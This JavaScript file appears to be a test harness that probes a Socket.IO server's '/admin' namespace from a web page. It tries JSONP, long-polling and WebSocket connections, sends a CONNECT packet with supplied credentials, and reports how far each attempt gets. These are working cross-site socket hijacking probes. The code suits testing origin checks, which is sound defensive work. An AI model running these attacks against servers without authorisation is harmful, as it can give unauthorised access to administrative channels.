// What a page can try against the namespace /admin of a server: each attack resolves to how far it got.
'use strict';

const handshake = '/socket.io/?EIO=4&transport=';

// within ends an attack that gets no answer.
const within = (promise) => Promise.race([promise, new Promise((resolve) => setTimeout(resolve, 20_000, 'silence'))]);

// joined is the answer to CONNECT among the packets of a body.
const joined = (body) => body.split('\x1e').find((packet) => /^4[04]/.test(packet)) ?? body;

// script reads an answer to a poll by a script element.
const script = (url) => new Promise((resolve, reject) => {
  window.___eio = [resolve];
  const element = document.createElement('script');
  element.onload = () => reject(new Error('no call'));
  element.onerror = () => reject(new Error('no script'));
  element.src = `${url}&j=0`;
  document.head.appendChild(element);
});

const attacks = {
  async jsonp(base, auth) {
    const url = `${base}${handshake}polling`;
    const { sid } = JSON.parse((await script(url)).slice(1));
    const form = new URLSearchParams({ d: `40/admin,${auth}` });
    await fetch(`${url}&sid=${sid}&j=0`, { method: 'POST', mode: 'no-cors', body: form });
    return joined(await script(`${url}&sid=${sid}`));
  },
  async polling(base, auth) {
    const url = `${base}${handshake}polling`;
    const opened = await fetch(url);
    if (!opened.ok) throw new Error(opened.status);
    const { sid } = JSON.parse((await opened.text()).slice(1));
    await fetch(`${url}&sid=${sid}`, { method: 'POST', body: `40/admin,${auth}` });
    return joined(await (await fetch(`${url}&sid=${sid}`)).text());
  },
  websocket: (base, auth) => new Promise((resolve, reject) => {
    const socket = new WebSocket(`${base.replace(/^http/, 'ws')}${handshake}websocket`);
    socket.onerror = () => reject(new Error('no websocket'));
    socket.onmessage = ({ data }) => {
      if (data.startsWith('0')) socket.send(`40/admin,${auth}`);
      else if (/^4[04]/.test(data)) resolve(data);
    };
  }),
};

// attack resolves to what an attack has got, or to why it has got nothing.
const attack = (name, base, auth) => within(attacks[name](base, auth)).catch(({ message }) => `failed: ${message}`);
